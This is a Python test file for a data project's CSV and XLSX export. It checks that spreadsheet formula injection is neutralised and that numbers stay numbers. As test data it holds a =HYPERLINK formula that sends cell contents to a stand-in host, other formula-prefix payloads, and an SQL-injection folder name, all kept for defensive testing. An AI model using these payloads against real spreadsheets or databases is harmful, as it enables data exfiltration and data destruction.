"""The export boundary: no text cell of a CSV the project writes is read as a formula by a spreadsheet (the
interface's CSV and the MPR's mpr.csv), numbers stay numbers, XLSX text is an inline string, and an output
folder whose name holds a quote and a semicolon neither breaks nor changes the COPY statement."""

from __future__ import annotations

import csv
import re
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import duckdb
import pyarrow.parquet as pq

from sidil.csv_seguro import copiar_csv, texto_seguro
from sidil.interfaz import exportar
from sidil.interfaz.filtros import Seleccion
from sidil.interfaz.mpr import Matriz

# What a hostile or careless DNE could hold as workplace names, in the order of the manual MPR's ids 1-8.
NOMBRES = [
    '=HYPERLINK("http://x.invalid/?d="&A1,"clic")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tcon tabulador",
    "\rcon retorno",
    "CT normal",
    "O'Hara = bien",
]
ESPERADOS = ["'" + n for n in NOMBRES[:6]] + NOMBRES[6:]
CARPETA_HOSTIL = "x'; drop table mpr; --"


def _mpr_hostil(carpeta: Path) -> Path:
    from tests.interfaz.conftest import escribir_mpr_manual

    escribir_mpr_manual(carpeta)
    tabla = pq.read_table(carpeta / "mpr.parquet")
    tabla = tabla.set_column(tabla.column_names.index("nombre_ct"), "nombre_ct", [NOMBRES])
    ind = tabla.column("ind_a").to_pylist()
    ind[0] = -0.5  # a negative number is not text
    tabla = tabla.set_column(tabla.column_names.index("ind_a"), "ind_a", [ind])
    pq.write_table(tabla, carpeta / "mpr.parquet")
    return carpeta


def _leer_csv(ruta: Path) -> list[dict]:
    with open(ruta, encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


def test_the_rule_itself(tmp_path):
    assert [texto_seguro(n) for n in NOMBRES] == ESPERADOS
    con = duckdb.connect()
    con.execute("""create table t as select * from (values (1, 'a'::enum('a', '=b'), -1.5::double, null::varchar, -7),
                   (2, '=b', 2.0, '-x', 3)) v(id, e, x, s, "=n")""")
    salida = tmp_path / "t.csv"
    copiar_csv(con, "select * from t where id >= ?", salida, [1], orden="id")
    assert salida.read_text(encoding="utf-8").splitlines() == ["id,e,x,s,'=n", "1,a,-1.5,,-7", "2,'=b,2.0,'-x,3"]


def test_the_interface_csv_neutralises_formulas_and_keeps_numbers(tmp_path):
    m = Matriz(_mpr_hostil(tmp_path / "mpr"))
    destino = tmp_path / CARPETA_HOSTIL / "salidas"
    destino.mkdir(parents=True)
    ruta = destino / "m.csv"
    assert exportar.exportar_csv(m, Seleccion(), ruta) == 8
    filas = {int(f["centro_trabajo_id"]): f for f in _leer_csv(ruta)}
    assert [filas[i]["nombre_ct"] for i in range(1, 9)] == ESPERADOS
    assert filas[1]["ind_a"] == "-0.5" and filas[2]["ind_a"] == "0.8"
    assert [int(i) for i in filas] == [8, 7, 6, 5, 4, 3, 2, 1]  # still by overall risk
    # the quote and the semicolon in the folder name did nothing else: one file, the matrix intact
    assert sorted(p.name for p in (tmp_path / CARPETA_HOSTIL).rglob("*")) == ["m.csv", "salidas"]
    assert m.cursor().execute("select count(*) from mpr").fetchone()[0] == 8


def test_xlsx_text_that_looks_like_a_formula_is_an_inline_string(tmp_path):
    m = Matriz(_mpr_hostil(tmp_path / "mpr"))
    ruta = tmp_path / CARPETA_HOSTIL / "m.xlsx"
    ruta.parent.mkdir()
    assert exportar.exportar_xlsx(m, Seleccion(), ruta) == 8
    with zipfile.ZipFile(ruta) as z:
        hoja = z.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in hoja and "<f " not in hoja
    celda = re.search(r'<c r="B\d+"[^>]*><is><t xml:space="preserve">=HYPERLINK\(', hoja)
    assert celda and 't="inlineStr"' in celda.group(0)
    assert '<t xml:space="preserve">@SUM(A1:A9)</t>' in hoja
    assert re.search(r'<c r="[A-Z]+9"><v>-0.5</v></c>', hoja)  # id 1 is last by risk: row 9


def test_the_mpr_csv_neutralises_formulas_and_lands_in_a_folder_with_a_quote(mpr_tiny, tmp_path):
    """`sidil predict` for real, with a DNE name shaped like a formula and SIDIL_SALIDAS holding a quote and
    a semicolon: mpr.csv lands there, neutralised, and the statement did nothing else."""
    db = tmp_path / "sidil.duckdb"
    shutil.copy(mpr_tiny["db"], db)
    con = duckdb.connect(str(db))
    primero, segundo = [
        r[0]
        for r in con.execute(
            "select centro_trabajo_id from marts.dne_plus order by centro_trabajo_id limit 2"
        ).fetchall()
    ]
    con.execute(
        "update intermediate.int_dne__centros_trabajo set nombre_ct = ? where centro_trabajo_id = ?",
        [NOMBRES[0], primero],
    )
    con.execute(
        "update intermediate.int_dne__centros_trabajo set nombre_ct = ? where centro_trabajo_id = ?",
        ["-Sin nombre", segundo],
    )
    con.execute(
        "update marts.universo_ct_con_indicadores set num_trabajadores = -3 where centro_trabajo_id = ?", [primero]
    )
    n = con.execute("select count(*) from marts.universo_ct_con_indicadores").fetchone()[0]
    con.close()
    salidas = tmp_path / CARPETA_HOSTIL / "salidas"
    env = dict(mpr_tiny["env"], SIDIL_DB=str(db), SIDIL_SALIDAS=str(salidas))
    sidil = Path(sys.executable).with_name("sidil")
    r = subprocess.run([str(sidil), "predict", "--publicar"], env=env, capture_output=True, text=True)
    assert r.returncode == 0, r.stdout[-3000:] + r.stderr[-3000:]
    assert sorted(p.name for p in (salidas / "mpr").iterdir()) == [
        "mpr.csv",
        "mpr.parquet",
        "mpr_diccionario.parquet",
        "mpr_metadatos.json",
    ]
    filas = {int(f["centro_trabajo_id"]): f for f in _leer_csv(salidas / "mpr" / "mpr.csv")}
    assert len(filas) == n
    assert filas[primero]["nombre_ct"] == ESPERADOS[0] and filas[segundo]["nombre_ct"] == "'-Sin nombre"
    assert not [f["nombre_ct"] for f in filas.values() if f["nombre_ct"][:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert filas[primero]["atrib_num_trabajadores"] == "-3"  # a negative number stays a number
    assert float(filas[primero]["riesgo"]) >= 0
    parquet = pq.read_table(salidas / "mpr" / "mpr.parquet").to_pydict()  # the Parquet keeps the true name
    assert parquet["nombre_ct"][parquet["centro_trabajo_id"].index(primero)] == NOMBRES[0]
    con = duckdb.connect(str(db), read_only=True)
    assert con.execute("select count(*) from ml.mpr").fetchone()[0] == n
